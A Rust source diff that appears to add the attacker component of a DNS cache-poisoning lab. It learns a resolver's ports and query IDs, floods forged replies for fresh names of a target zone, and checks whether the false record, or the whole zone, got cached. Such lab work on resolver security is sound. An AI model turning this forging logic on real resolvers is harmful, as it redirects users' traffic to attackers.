@@ -1,0 +1,233 @@
+//! What the attacker does: learns what it can, makes the resolver ask, forges, and looks whether it was
+//! believed.
+//!
+//! ```text
+//!   learn    the client is made to ask for names of the attacker's own zone:
+//!            its server sees address, port and query ID
+//!   window   the client is made to ask for a new name of the attacked zone;
+//!            until the right reply comes, forged ones are sent
+//!   look     what did the client get? and once more: is it in the cache?
+//! ```
+
+use std::net::{IpAddr, Ipv4Addr};
+use std::time::{Duration, Instant};
+
+use serde::Serialize;
+
+use super::client::Client;
+use super::flood::{BATCH, Flood};
+use super::guesses::Guesses;
+use super::network::{Network, servers};
+use super::scenario::{Attack, Kind, Scenario};
+use super::zones::{ATTACK, BANK, FALSE, forged};
+use super::{Event, Tell, scan};
+use crate::LabError;
+use crate::actor::{DnsServer, Seen};
+
+/// Names of its own zone that it has asked for, to learn.
+const LESSONS: usize = 12;
+/// Longer than any resolver takes to give up on a name and say so.
+const PATIENCE: Duration = Duration::from_secs(12);
+
+/// What the attacker saw at its own server.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
+pub struct Lesson {
+    /// Where the queries came from: what it will forge replies to.
+    pub address: Ipv4Addr,
+    /// The ports, in order.
+    pub ports: Vec<u16>,
+    /// The query IDs, in order.
+    pub ids: Vec<u16>,
+}
+
+impl Lesson {
+    /// The port that all came from, if there is one.
+    pub fn fixed_port(&self) -> Option<u16> {
+        let first = *self.ports.first()?;
+        self.ports.iter().all(|port| *port == first).then_some(first)
+    }
+
+    /// Whether the query IDs count up, by a few at a time.
+    pub fn ids_count(&self) -> bool {
+        self.ids.len() > 2
+            && self.ids.windows(2).all(|two| (1..=4).contains(&two[1].wrapping_sub(two[0])))
+    }
+}
+
+/// What came of it.
+#[derive(Clone, Debug, PartialEq, Serialize)]
+pub struct Attacked {
+    /// What it knew.
+    pub lesson: Lesson,
+    /// What the scan of ports found, if there was one.
+    pub scan: Option<scan::Scanned>,
+    /// Names that the resolver was made to ask for.
+    pub windows: u64,
+    /// Windows in which a forged reply was believed; more than one only if it went on after the first.
+    pub hits: u64,
+    /// Windows in which the client got no address at all.
+    pub failures: u64,
+    /// Forged packets.
+    pub forged: u64,
+    /// From the first window on.
+    pub seconds: f64,
+    /// The first success.
+    pub poisoned: Option<Poisoned>,
+}
+
+/// A cache with a false record.
+#[derive(Clone, Debug, PartialEq, Serialize)]
+pub struct Poisoned {
+    /// Since the first window began, in seconds.
+    pub after: f64,
+    /// Which window it was, from 1.
+    pub window: u64,
+    /// The name that leads astray.
+    pub name: String,
+    /// Asked once more, it came from the cache.
+    pub cached: bool,
+    /// All other names of the zone lead astray as well: the resolver believed the name server that came
+    /// with the answer.
+    pub whole_zone: bool,
+}
+
+pub(super) struct Attacker<'a> {
+    network: &'a Network,
+    scenario: &'a Scenario,
+    own: &'a DnsServer,
+    client: Client,
+    flood: Flood,
+    tell: Tell<'a>,
+}
+
+impl<'a> Attacker<'a> {
+    pub(super) fn new(
+        network: &'a Network,
+        own: &'a DnsServer,
+        scenario: &'a Scenario,
+        tell: Tell<'a>,
+    ) -> Result<Self, LabError> {
+        let client = Client::new(&network.client)?;
+        let flood = Flood::new(&network.attacker)?;
+        Ok(Attacker { network, scenario, own, client, flood, tell })
+    }
+
+    fn attack(&self) -> &'a Attack {
+        &self.scenario.attack
+    }
+
+    /// The whole programme.
+    pub(super) fn run(mut self) -> Result<Attacked, LabError> {
+        let lesson = self.learn()?;
+        let scan = match self.attack().kind {
+            Kind::Scan => Some(scan::run(
+                self.network,
+                &mut self.client,
+                lesson.address,
+                self.scenario,
+                self.tell,
+            )?),
+            _ => None,
+        };
+        let found = scan.as_ref().and_then(|scan| scan.port);
+        let mut guesses = Guesses::new(self.attack(), &lesson, found);
+        let mut done = Attacked {
+            lesson,
+            scan,
+            windows: 0,
+            hits: 0,
+            failures: 0,
+            forged: 0,
+            seconds: 0.0,
+            poisoned: None,
+        };
+        // Without the port that it was looking for there is nothing to aim at.
+        if self.attack().kind == Kind::Scan && found.is_none() {
+            return Ok(done);
+        }
+        let begun = Instant::now();
+        let over = |done: &Attacked| {
+            begun.elapsed() > self.scenario.attack.lasts
+                || self.scenario.attack.windows.is_some_and(|most| done.windows >= most)
+                || done.poisoned.is_some() && !self.scenario.attack.goes_on
+        };
+        while !over(&done) {
+            self.window(&mut done, &mut guesses, begun)?;
+            done.seconds = begun.elapsed().as_secs_f64();
+            (self.tell)(Event::Progress(&done));
+        }
+        Ok(done)
+    }
+
+    fn learn(&mut self) -> Result<Lesson, LabError> {
+        self.own.take_seen();
+        for number in 0..LESSONS {
+            self.client.asks(&format!("lesson{number}.{ATTACK}"))?;
+        }
+        let mut seen = self.own.take_seen();
+        seen.retain(|query| !query.tcp && query.name.to_lowercase().contains(ATTACK));
+        let address = seen.iter().find_map(|query| match query.peer.ip() {
+            IpAddr::V4(address) => Some(address),
+            IpAddr::V6(_) => None,
+        });
+        let address = address.ok_or(LabError::NotReady {
+            what: "any query at the attacker's own server",
+            patience: PATIENCE,
+        })?;
+        let ports = seen.iter().map(|query: &Seen| query.peer.port()).collect();
+        Ok(Lesson { address, ports, ids: seen.iter().map(|query| query.id).collect() })
+    }
+
+    /// One name, one race.
+    fn window(
+        &mut self,
+        done: &mut Attacked,
+        guesses: &mut Guesses,
+        begun: Instant,
+    ) -> Result<(), LabError> {
+        let attack = self.attack();
+        let name = format!("r{}.{BANK}", done.windows);
+        let all: Vec<_> = servers(self.scenario.network.servers).collect();
+        let payload = forged(&name, !attack.goes_on)
+            .ok_or(LabError::NotReady { what: "a forged reply", patience: Duration::ZERO })?;
+        // One of the servers that may be asked; a guess like the others.
+        let server = all[usize::try_from(done.windows).unwrap_or(0) % all.len()];
+        self.flood.load(server, done.lesson.address, &payload)?;
+        guesses.next_window();
+        self.client.ask(&name)?;
+        let asked = Instant::now();
+        done.windows += 1;
+        let mut sent = 0;
+        let mut answer = None;
+        let most = attack.packets.unwrap_or(u64::MAX);
+        while asked.elapsed() < self.scenario.network.delay && sent < most && answer.is_none() {
+            let due = attack.rate * asked.elapsed().as_secs_f64();
+            if sent as f64 > due {
+                std::thread::sleep(Duration::from_micros(200));
+            } else {
+                let count = usize::try_from(most - sent).unwrap_or(BATCH).min(BATCH);
+                sent += self.flood.send(&guesses.take(count))? as u64;
+            }
+            answer = self.client.answer(Duration::ZERO);
+        }
+        done.forged += sent;
+        let answer = answer.or_else(|| self.client.answer(PATIENCE));
+        let Some(address) = answer.and_then(|answer| answer.address) else {
+            done.failures += 1;
+            return Ok(());
+        };
+        if address == FALSE {
+            done.hits += 1;
+            if done.poisoned.is_none() {
+                done.poisoned = Some(Poisoned {
+                    after: begun.elapsed().as_secs_f64(),
+                    window: done.windows,
+                    cached: self.client.asks(&name)? == Some(FALSE),
+                    whole_zone: self.client.asks(&format!("after.{BANK}"))? == Some(FALSE),
+                    name,
+                });
+            }
+        }
+        Ok(())
+    }
+}
